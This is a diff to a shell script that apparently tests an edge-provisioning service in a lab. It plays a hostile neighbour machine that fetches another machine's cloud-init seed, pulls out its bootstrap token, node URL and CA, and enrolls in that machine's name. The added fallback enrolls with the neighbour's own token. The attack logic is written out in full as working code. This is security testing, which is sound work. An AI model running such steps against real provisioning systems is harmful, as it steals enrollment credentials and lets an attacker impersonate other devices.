@@ -11,7 +11,8 @@ VICTIM=$1
 BASE=${2%/}
 OUT=/run/edgejoin-neighbour
 mkdir -p "$OUT"
-say() { echo "edgejoin-neighbour: $*" >/dev/ttyS0; }
+CONSOLE=${EDGEJOIN_NEIGHBOUR_CONSOLE:-/dev/ttyS0}
+say() { echo "edgejoin-neighbour: $*" >"$CONSOLE"; }
 
 ip=$(hostname -I | tr ' ' '\n' | grep -E '^[0-9]+(\.[0-9]+){3}$' | head -n 1)
 say "up at ${ip:-no address}; waiting for the signal to play $VICTIM"
@@ -25,14 +26,15 @@ until curl -fsS -m 5 -o /dev/null "$BASE/artifacts/lab-neighbour/go"; do
 	sleep 1
 done
 
-seed=$(curl -sS -m 20 -o "$OUT/user-data" -w '%{http_code}' "$BASE/cloud-init/$VICTIM/user-data") || seed=000
-say "seed of $VICTIM: HTTP $seed, $(wc -c <"$OUT/user-data") bytes"
-# The agent's state files, from a plain cloud-config or from autoinstall's nested user-data.
-python3 - "$OUT" <<'PY'
-import sys, yaml
-out = sys.argv[1]
+# The agent's state files from a seed, into folder $2: from a plain cloud-config or from
+# autoinstall's nested user-data.
+agent_files() {
+	python3 - "$1" "$2" <<'PY'
+import os, sys, yaml
+seed, out = sys.argv[1], sys.argv[2]
+os.makedirs(out, exist_ok=True)
 try:
-    d = yaml.safe_load(open(out + "/user-data")) or {}
+    d = yaml.safe_load(open(seed)) or {}
 except Exception:
     d = {}
 if isinstance(d, dict) and "autoinstall" in d:
@@ -43,11 +45,30 @@ for f in (d.get("write_files") or []) if isinstance(d, dict) else []:
         with open(out + "/" + p.rsplit("/", 1)[1], "w") as w:
             w.write(str(f.get("content", "")))
 PY
-first() { [ -s "$OUT/$1" ] && head -n 1 "$OUT/$1" | tr -d '\r\n'; }
-token=$(first bootstrap-token) || token=""
-node=$(first node-url) || node=$(first server-url) || node=$BASE
+}
+first() { [ -s "$1" ] && head -n 1 "$1" | tr -d '\r\n'; }
+
+seed=$(curl -sS -m 20 -o "$OUT/user-data" -w '%{http_code}' "$BASE/cloud-init/$VICTIM/user-data") || seed=000
+say "seed of $VICTIM: HTTP $seed, $(wc -c <"$OUT/user-data") bytes"
+agent_files "$OUT/user-data" "$OUT/victim"
+token=$(first "$OUT/victim/bootstrap-token") || token=""
+node=$(first "$OUT/victim/node-url") || node=""
+ca="$OUT/victim/ca.pem"
+if [ -z "$token" ] || [ -z "$node" ]; then
+	# The victim's seed gives nothing to enroll with: take what any machine's seed gives, here the
+	# neighbour's own (its MAC, a fresh token for it, the node URL and the CA), and enroll in the
+	# victim's name with that token.
+	own=$(cat /sys/class/net/"$(ip -4 route show default | awk '{ print $5; exit }')"/address 2>/dev/null)
+	curl -sS -m 20 -o "$OUT/own-user-data" "$BASE/cloud-init/$own/user-data" || true
+	agent_files "$OUT/own-user-data" "$OUT/own"
+	[ -n "$token" ] || token=$(first "$OUT/own/bootstrap-token") || token=""
+	[ -n "$node" ] || node=$(first "$OUT/own/node-url") || node=""
+	[ -s "$ca" ] || ca="$OUT/own/ca.pem"
+	say "the victim's seed has no token or node URL: using the neighbour's own seed ($own)"
+fi
+[ -n "$node" ] || node=$BASE
 node=${node%/}
-say "stolen: token $([ -n "$token" ] && echo yes || echo none), node URL $node, CA $([ -s "$OUT/ca.pem" ] && echo yes || echo none)"
+say "stolen: token $([ -n "$token" ] && echo yes || echo none), node URL $node, CA $([ -s "$ca" ] && echo yes || echo none)"
 
 # An anonymous sighting in the victim's name with another identity (SMBIOS UUID, serial, arch):
 # what would the victim's next PXE boot run?
@@ -62,6 +83,7 @@ say "boot script for $VICTIM: $script"
 
 printf '{"token":"%s","mac":"%s","hostname":"neighbour","ip":"%s","facts":{"agent":"edgejoin-neighbour"}}' "$token" "$VICTIM" "$ip" >"$OUT/enroll.json"
 set -- -sS -m 30 -o "$OUT/enroll.out" -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "@$OUT/enroll.json"
-[ -s "$OUT/ca.pem" ] && set -- "$@" --cacert "$OUT/ca.pem"
+[ -s "$ca" ] && set -- "$@" --cacert "$ca"
 code=$(curl "$@" "$node/api/v1/enroll" 2>"$OUT/curl.err") || code=000
-say "RESULT status=$code token=$([ -n "$token" ] && echo yes || echo none) ip=$ip boot=$boot body=$(head -c 600 "$OUT/enroll.out" 2>/dev/null | tr -d '\r\n') curl=$(head -c 200 "$OUT/curl.err" | tr -d '\r\n')"
+victim_token=$([ -s "$OUT/victim/bootstrap-token" ] && echo yes || echo none)
+say "RESULT status=$code token=$victim_token ip=$ip boot=$boot body=$(head -c 600 "$OUT/enroll.out" 2>/dev/null | tr -d '\r\n') curl=$(head -c 200 "$OUT/curl.err" | tr -d '\r\n')"
